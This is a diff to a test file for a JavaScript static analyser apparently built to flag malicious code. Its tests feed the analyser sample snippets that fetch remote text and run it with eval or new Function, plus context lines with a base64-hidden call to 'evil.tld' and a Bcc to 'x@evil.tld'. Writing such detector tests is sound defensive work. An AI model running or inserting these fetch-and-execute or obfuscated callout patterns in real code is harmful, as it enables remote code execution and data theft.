@@ -123,6 +123,21 @@ describe("code facts see built values", () => {
     assert.equal(facts.keyed.find((k) => k.key === "Bcc")?.value, "x@evil.tld");
   });
 
+  it("downloaded text run as code is seen through a promise chain and through awaited names", () => {
+    const chain = analyzeJs(
+      'fetch("https://x.tld/p").then((r) => r.text()).then((code) => eval(code));',
+      "index.js",
+    );
+    assert.deepEqual(chain.remoteCode, [{ value: "eval", line: 1 }]);
+    const awaited = analyzeJs(
+      "const res = await fetch(u);\nconst src = await res.text();\nnew Function(src)();",
+      "index.mjs",
+    );
+    assert.deepEqual(awaited.remoteCode, [{ value: "Function", line: 3 }]);
+    const local = analyzeJs("const res = await fetch(u);\nconst n = 2;\neval(`${n} + 1`);", "index.mjs");
+    assert.deepEqual(local.remoteCode, []);
+  });
+
   it("a decoded string is among the strings, marked decoded", () => {
     const facts = analyzeJs('const u = atob("aHR0cHM6Ly9ldmlsLnRsZC9j"); fetch(u);', "index.js");
     const s = facts.strings.find((x) => x.value === "https://evil.tld/c");
